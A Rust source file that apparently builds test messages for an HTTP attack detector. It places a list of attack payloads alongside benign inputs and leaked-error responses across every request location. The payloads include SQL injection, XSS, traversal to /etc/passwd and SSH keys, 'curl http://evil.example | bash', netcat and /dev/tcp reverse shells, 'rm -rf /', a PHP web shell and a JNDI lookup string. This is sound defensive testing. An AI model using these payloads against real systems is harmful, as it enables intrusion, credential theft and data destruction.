//! Messages to judge: attacks of every class and what people really send, each in every place where it may stand.

use serde::Serialize;

/// A message.
#[derive(Debug, Clone, Serialize)]
pub(crate) struct Message {
    pub(crate) name: String,
    pub(crate) method: &'static str,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: String,
    /// Body of a response, when it is what is judged.
    pub(crate) response: Option<String>,
}

const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 OR 1=1--",
    "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users",
    "admin'--",
    "1' AND SLEEP(5)#",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "'; EXEC xp_cmdshell('dir')--",
    "1' WAITFOR DELAY '0:0:5'--",
    "1 UNION ALL SELECT NULL,NULL,version()",
    "-1' or benchmark(1000000,md5(1))#",
    "1'||(SELECT pg_sleep(5))||'",
    "1 HAVING 1=1",
    "x' AND email IS NULL; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "\"><script>document.cookie</script>",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<details open ontoggle=alert(1)>",
    "{{7*7}}",
    "<style>@import 'x'</style>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "....//....//etc/hosts",
    "/proc/self/environ",
    "../.htaccess",
    "wp-config.php.bak",
    "../../.ssh/id_rsa",
    "; cat /etc/passwd",
    "| id",
    "`uname -a`",
    "$(whoami)",
    "&& wget http://evil.example/x.sh",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "() { :; }; echo vulnerable",
    "|powershell -enc SQBFAFgA",
    "& ping -n 5 127.0.0.1",
    "; curl http://evil.example | bash",
    "; rm -rf /",
    "|net user administrator",
    "/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "; python -c 'import os'",
    "http://evil.example/shell.php?",
    "http://192.0.2.66/x.txt",
    "ftp://evil.example/a.php",
    "https://evil.example/inc.txt?cmd=id",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index",
    "phpinfo()",
    "eval(base64_decode('YQ=='))",
    "O:8:\"stdClass\":1:{s:1:\"a\";}",
    "$_SERVER['DOCUMENT_ROOT']",
    "assert($_POST['x'])",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "%{(#a='b')}",
    "class.module.classLoader.x=1",
    "require('child_process').exec('id')",
    "process.env",
    "__proto__",
    "_$$ND_FUNC$$_function (){}()",
    "rO0ABXNyABFqYXZh",
    "*)(uid=*))(|(uid=*",
    "a\r\nSet-Cookie: x=1",
    "x\nLocation: http://evil.example",
    "PHPSESSID=abc; document.cookie='x'",
];

const BENIGN: &[&str] = &[
    "1",
    "hello",
    "Ada Lovelace",
    "O'Brien",
    "Zoë Müller",
    "東京",
    "résumé.pdf",
    "the tide comes in at noon",
    "2026-11-29T08:15:00Z",
    "ada@example.com",
    "+44 20 7946 0958",
    "42.50",
    "-17",
    "true",
    "a,b,c",
    "C++ and C#",
    "50% of patients",
    "AT&T",
    "10 < 20",
    "Dr. No, M.D.",
    "What is the union of two sets?",
    "please select an appointment",
    "order by phone",
    "drop me a line",
    "my script for the play",
    "https://www.example.com/page?x=1",
    "550e8400-e29b-41d4-a716-446655440000",
    "blood type: A+",
    "height: 180 cm; weight: 75 kg",
    "rock 'n' roll",
    "(see page 3)",
    "a=b",
    "key:value",
    "[1, 2, 3]",
    "#hashtag",
    "@mention",
    "smith--jones",
    "1/2 cup",
    "C:",
    "I <3 you",
    "Q&A",
    "path/to/report",
    "report.v2.docx",
    "e=mc^2",
    "~50",
    "\u{1f642}",
];

const RESPONSES: &[&str] = &[
    "<html><body>welcome</body></html>",
    "hello",
    "{\"name\":\"Ada\"}",
    "The table of contents lists every error.",
    "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
    "ORA-00933: SQL command not properly ended",
    "PG::SyntaxError: ERROR: syntax error at or near",
    "SQLite3::SQLException: near",
    "Unclosed quotation mark after the character string",
    "java.sql.SQLException: Column not found",
    "<b>Fatal error</b>: Uncaught Error in /var/www/index.php on line 3",
    "<?php echo $password; ?>",
    "Index of /backup",
    "<title>Index of /</title><h1>Index of /</h1>",
    "at java.lang.Thread.run(Thread.java:748)",
    "Microsoft OLE DB Provider for SQL Server error '80040e14'",
    "<h2>Internal Server Error in '/' Application.</h2>",
    "Warning: mysql_connect(): Access denied for user",
    "#!/bin/bash\necho secret",
    "root:x:0:0:root:/root:/bin/bash",
];

fn encoded(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}

fn message(
    name: String,
    method: &'static str,
    target: String,
    more: &[(&str, &str)],
    body: String,
) -> Message {
    let mut headers: Vec<(String, String)> =
        [("host", "api.example.com"), ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("accept", "*/*")]
            .iter()
            .filter(|(name, _)| !more.iter().any(|(other, _)| other == name))
            .chain(more)
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect();
    if method == "POST" {
        headers.push(("content-length".into(), body.len().to_string()));
    }
    headers.retain(|(_, value)| !value.is_empty());
    Message { name, method, target, headers, body, response: None }
}

/// All of them.
pub(crate) fn messages() -> Vec<Message> {
    let mut all = Vec::new();
    for text in ATTACKS.iter().chain(BENIGN) {
        let form = encoded(text);
        all.push(message(format!("query {text:?}"), "GET", format!("/visits?q={form}"), &[], String::new()));
        let kind = [("content-type", "application/x-www-form-urlencoded")];
        all.push(message(
            format!("form {text:?}"),
            "POST",
            "/visits".into(),
            &kind,
            format!("name=Ada&q={form}"),
        ));
        let json = serde_json::json!({ "name": "Ada", "q": text }).to_string();
        all.push(message(
            format!("json {text:?}"),
            "POST",
            "/visits".into(),
            &[("content-type", "application/json")],
            json,
        ));
        let part = format!(
            "--b0undary\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{text}\r\n--b0undary--\r\n"
        );
        let kind = [("content-type", "multipart/form-data; boundary=b0undary")];
        all.push(message(format!("multipart {text:?}"), "POST", "/visits".into(), &kind, part));
        if !text.contains(['\r', '\n']) && text.is_ascii() {
            all.push(message(
                format!("cookie {text:?}"),
                "GET",
                "/".into(),
                &[("cookie", &format!("q={text}"))],
                String::new(),
            ));
            all.push(message(
                format!("agent {text:?}"),
                "GET",
                "/".into(),
                &[("user-agent", text)],
                String::new(),
            ));
            all.push(message(
                format!("referer {text:?}"),
                "GET",
                "/".into(),
                &[("referer", text)],
                String::new(),
            ));
        }
        all.push(message(format!("path {text:?}"), "GET", format!("/visits/{form}"), &[], String::new()));
    }
    for (name, method, target, more) in [
        ("no host", "GET", "/", [("host", "")]),
        ("host is an address", "GET", "/", [("host", "192.0.2.1")]),
        ("no agent", "GET", "/", [("user-agent", "")]),
        ("no accept", "GET", "/", [("accept", "")]),
        ("sqlmap", "GET", "/", [("user-agent", "sqlmap/1.5")]),
        ("nikto", "GET", "/", [("user-agent", "Mozilla/5.00 (Nikto/2.1.6)")]),
        (
            "nmap",
            "GET",
            "/nmaplowercheck1",
            [("user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")],
        ),
        ("curl", "GET", "/", [("user-agent", "curl/8.5.0")]),
        ("trace", "TRACE", "/", [("accept", "*/*")]),
        ("put", "PUT", "/visits/1", [("accept", "*/*")]),
        ("delete", "DELETE", "/visits/1", [("accept", "*/*")]),
        ("post without a type", "POST", "/", [("accept", "*/*")]),
        ("odd type", "POST", "/", [("content-type", "application/x-odd")]),
        ("odd charset", "POST", "/", [("content-type", "application/json; charset=utf-7")]),
        ("utf-8 charset", "POST", "/", [("content-type", "application/json; charset=utf-8")]),
        ("proxy header", "GET", "/", [("proxy", "http://evil.example")]),
        ("range", "GET", "/", [("range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7")]),
        ("plain range", "GET", "/", [("range", "bytes=0-99")]),
        ("env file", "GET", "/.env", [("accept", "*/*")]),
        ("git", "GET", "/.git/config", [("accept", "*/*")]),
        ("backup", "GET", "/db.sql", [("accept", "*/*")]),
        ("bad escape", "GET", "/?q=%zz", [("accept", "*/*")]),
        ("null", "GET", "/?q=a%00b", [("accept", "*/*")]),
        ("double encoding", "GET", "/?q=%2527%20OR%201=1", [("accept", "*/*")]),
        ("twice the same", "GET", "/?q=1&q=2", [("accept", "*/*")]),
        ("many", "GET", "/?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8", [("accept", "*/*")]),
        ("static", "GET", "/assets/app.min.js?v=1.2.3", [("accept", "*/*")]),
        ("bearer", "GET", "/", [("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln")]),
    ] {
        let body = if method == "POST" { "{}" } else { "" };
        all.push(message(name.to_owned(), method, target.to_owned(), &more, body.to_owned()));
    }
    for text in RESPONSES {
        let mut judged = message(format!("response {text:?}"), "GET", "/".into(), &[], String::new());
        judged.response = Some((*text).to_owned());
        all.push(judged);
    }
    all
}
